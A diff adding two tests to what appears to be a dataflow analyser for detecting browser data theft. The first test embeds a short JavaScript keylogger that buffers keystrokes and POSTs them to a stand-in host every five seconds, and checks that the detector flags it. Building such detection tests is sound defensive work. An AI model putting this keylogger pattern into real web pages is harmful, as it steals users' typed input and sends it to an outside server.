@@ -595,3 +595,22 @@ def test_page_data_that_stays_first_party(code: str) -> None:
     from airlock.analysis.dataflow.judge import is_browser_theft
 
     assert not [f for f in flows_of(code).flows if is_browser_theft(f)]
+
+
+def test_a_shared_variable_filled_in_one_handler_and_sent_from_another() -> None:
+    code = (
+        "let buf = '';\n"
+        "document.addEventListener('keydown', (e) => { buf += e.key; });\n"
+        "setInterval(() => { if (buf) { fetch('https://c.example.invalid/k', { method: 'POST', body: buf }); buf = ''; } }, 5000);"
+    )
+    (flow,) = flows_of(code).flows
+    assert flow.source.detail == "keystrokes" and flow.sink.load_time
+
+
+def test_a_local_reassignment_of_a_clean_shared_variable_stays_clean() -> None:
+    code = (
+        "let last = 'none';\n"
+        "document.addEventListener('click', () => { last = 'click'; });\n"
+        "setInterval(() => { fetch('https://c.example.com/t', { method: 'POST', body: last }); last = ''; }, 5000);"
+    )
+    assert not flows_of(code).flows
